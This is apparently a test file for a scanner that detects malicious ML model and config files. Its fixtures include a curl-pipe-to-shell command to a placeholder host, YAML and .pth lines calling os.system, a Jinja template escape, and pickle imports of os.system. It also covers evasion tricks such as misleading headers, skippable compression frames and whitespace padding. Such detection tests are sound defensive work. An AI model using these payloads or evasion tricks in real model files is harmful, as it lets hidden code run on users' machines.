import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { bytes, PAYLOAD, u32, u64 } from "../testing/assemble.js";
import { scanBytes } from "./scan-bytes.js";

const CODE = "=1\nimport os\nos.system('curl https://example.test/x | sh')\n";
/** Words of Python and YAML that are marks of other formats, or begin as their headers do. */
const WORDS = ["BZh", "BZh9", "ZF0x", "x^", "GIF89a", "GGUF", "lmgg", "a = TFL3", "a = ORTM", "CBM1"];

describe("text that begins as another format", () => {
  it.each(WORDS)("is read as what its name says: %s", (word) => {
    expect(scanBytes(bytes(word, CODE), "model.py").verdict).toBe("malicious");
    expect(scanBytes(bytes(word, " #\x01", CODE), "model.py").verdict).toBe("malicious");
    const yaml = `${word}: !!python/object/apply:os.system [x]\n`;
    expect(scanBytes(Buffer.from(yaml), "config.yaml").verdict).toBe("malicious");
    expect(scanBytes(bytes(word, "\nimport os; os.system('x')\n"), "a.pth").verdict).toBe("malicious");
  });

  it("may bear the tag that an archive's mark is in YAML", () => {
    const yaml = "!<arch>\na: !!python/object/apply:os.system [x]\n";
    expect(scanBytes(Buffer.from(yaml), "config.yaml").verdict).toBe("malicious");
  });

  it.each([...WORDS, "x^2 + y^2 = 1\n", "x^*\n", "x^{2} is the square of x.\n".repeat(400)])(
    "is nothing but text: %#",
    (text) => {
      expect(scanBytes(bytes(text, " and so on\n"), "notes.md")).toMatchObject({
        format: "text",
        verdict: "clean",
      });
    },
  );
});

/** PAYLOAD, packed by Python 3.13 with `lzma.FORMAT_ALONE`. */
const LZMA = Buffer.from(
  "5d00008000ffffffffffffffff0040010d36fc072837634969fc098014f87a12348ae90f866a85856b5c702799e564f12b3ffff6fec000",
  "hex",
);

describe("a pickle is found", () => {
  it.each([
    ["bzip2 (BINBYTES)", bytes("BZh\0\0", Buffer.alloc(0x685a), "0", PAYLOAD)],
    ["LZMA (BINUNICODE)", bytes("X", u32(65_536), u64(4000), Buffer.alloc(65_528), "0", PAYLOAD)],
  ])("behind what begins as %s", (_, data) => {
    for (const name of ["model.pkl", "model"]) expect(scanBytes(data, name).verdict).toBe("malicious");
  });

  // liblzma (alone_decoder.c) takes 2^n, 2^n + 2^(n-1), none and the largest for a mark; joblib and pandas ask it.
  it.each([65_536, 98_304, 3, 1, 0, 0xffffffff])("in LZMA with a dictionary of %i bytes", (size) => {
    const packed = bytes(LZMA.subarray(0, 1), u32(size), LZMA.subarray(5));
    expect(scanBytes(packed, "model.pkl")).toMatchObject({ format: "lzma+pickle", verdict: "malicious" });
  });

  // What `int(text, 16)` reads; joblib 1.5 was seen to load each.
  it.each(["0x1e", "1e", "0X1E", " +1e", "0_01e", "1e\n\n"])("in a joblib file of the size %j", (size) => {
    const packed = bytes(`ZF${size}`.padEnd(21), deflateSync(PAYLOAD));
    expect(scanBytes(packed, "model.pkl")).toMatchObject({ format: "zfile+pickle", verdict: "malicious" });
  });

  it("behind frames that LZ4 and zstd skip", () => {
    const skipped = bytes(u32(0x184d2a53), u32(5), "hello", u32(0x184d2a50), u32(0));
    const lz4 = bytes(u32(0x184d2204), 0x60, 0x40, 0x82, u32(2 ** 31 + PAYLOAD.length), PAYLOAD, u32(0));
    const zstd = bytes(u32(0xfd2fb528), 0x20, PAYLOAD.length, (PAYLOAD.length << 3) | 1, 0, 0, PAYLOAD);
    expect(scanBytes(bytes(skipped, lz4), "a.lz4").format).toBe("lz4+pickle");
    expect(scanBytes(bytes(skipped, zstd), "a.zst").format).toBe("zstd+pickle");
    const many = bytes(...Array.from({ length: 1500 }, () => skipped));
    expect(scanBytes(many, "a.zst").verdict).toBe("incomplete");
  });
});

describe("damaged streams", () => {
  const noise = Buffer.concat(
    Array.from({ length: 200 }, (_, count) => createHash("sha256").update(u32(count)).digest()),
  );
  it.each([
    ["cut", deflateSync(noise).subarray(0, 100)],
    ["cut behind what is tried", deflateSync(noise).subarray(0, 5000)],
    ["broken", bytes(deflateSync("text ".repeat(9)).subarray(0, 9), 0xff, 0xff, 0xff, 0xff, "    ")],
  ])("stay incomplete: zlib, %s", (_, packed) => {
    expect(scanBytes(packed, "model.joblib").verdict).toBe("incomplete");
  });

  it("stay incomplete: bzip2 behind its first mark", () => {
    expect(scanBytes(bytes("BZh91AY&SY", noise.subarray(0, 90)), "a.bz2").verdict).toBe("incomplete");
  });
});

const ESCAPE = "{{ cycler.__init__.__globals__.os.mkdir('x') }}";
const CONFIG = JSON.stringify({ chat_template: ESCAPE });

describe("text that readers find whatever stands before it", () => {
  it.each([
    ["white space", Buffer.from(`${"\n \t\r".repeat(200_000)}${CONFIG}`)],
    ["white space in UTF-16", Buffer.from(`\ufeff${"\n".repeat(700)}${CONFIG}`, "utf16le")],
    ["white space without a mark in UTF-16", Buffer.from(`${" ".repeat(701)}${CONFIG}`, "utf16le")],
  ])("JSON behind %s", (_, data) => {
    expect(scanBytes(data, "tokenizer_config.json")).toMatchObject({ format: "json", verdict: "malicious" });
  });

  it("a template that is JSON as well", () => {
    expect(scanBytes(Buffer.from(JSON.stringify([ESCAPE])), "chat_template.jinja").verdict).toBe("malicious");
  });

  it.each([
    "import os; os.system('x') #\x01",
    "\ufeffimport os; os.system('x')",
    "# \x1cimport os; os.system('x')",
  ])("a line of a .pth file: %j", (line) =>
    expect(scanBytes(Buffer.from(`${line}\n`), "a.pth").verdict).toBe("malicious"),
  );

  it("but white space alone is text", () => {
    expect(scanBytes(Buffer.alloc(5000, "\n"), "config.json")).toMatchObject({
      format: "text",
      verdict: "clean",
    });
  });
});

describe("a pointer of Git LFS", () => {
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d".repeat(32)}\nsize 12345\n`;

  it.each(["m.safetensors", "m.gguf", "m.onnx", "m.h5", "m.bin", "m.pkl", "m.pt", "m.npy"])(
    "may bear the name %s",
    (name) => {
      expect(scanBytes(Buffer.from(pointer), name)).toMatchObject({
        format: "git-lfs-pointer",
        verdict: "clean",
      });
    },
  );

  it("holds nothing else", () => {
    for (const text of [`${pointer}x`, pointer.replace("size", "cos\nsystem\nsize"), pointer.repeat(2)]) {
      expect(scanBytes(Buffer.from(text), "m.safetensors").verdict).not.toBe("clean");
    }
  });
});

describe("text that parses as a pickle", () => {
  // `c` takes two lines for the name of an import, and a line that begins with a dot ends the pickle.
  it.each([
    ["a table of statsmodels", "const_p1,const_p2\n.7376958,.2623042\n.9818866,.0181134\n", "fedfunds.csv"],
    ["a vocabulary", "cat\ndog\n.\n,\nthe\n", "vocab.txt"],
    ["a table of counts", "count mean\n1 2\n.5 3\n", "table.tsv"],
  ])("is %s", (_, text, name) => {
    expect(scanBytes(Buffer.from(text), name)).toMatchObject({
      format: "text",
      verdict: "clean",
      findings: [],
    });
  });

  it("is a pickle where it imports what Python has, or where its name says so", () => {
    expect(scanBytes(Buffer.from("cos\nsystem\n.and so on"), "vocab.txt").verdict).toBe("malicious");
    expect(scanBytes(Buffer.from("cantigravity\ngeohash\n.and so on"), "a.txt").verdict).not.toBe("clean");
    expect(scanBytes(Buffer.from("cevil\nrun\n."), "m.pkl").format).toBe("pickle");
    expect(scanBytes(Buffer.from("cevil\nrun\n(S'id'\ntR.rest"), "m.txt").verdict).not.toBe("clean");
  });
});
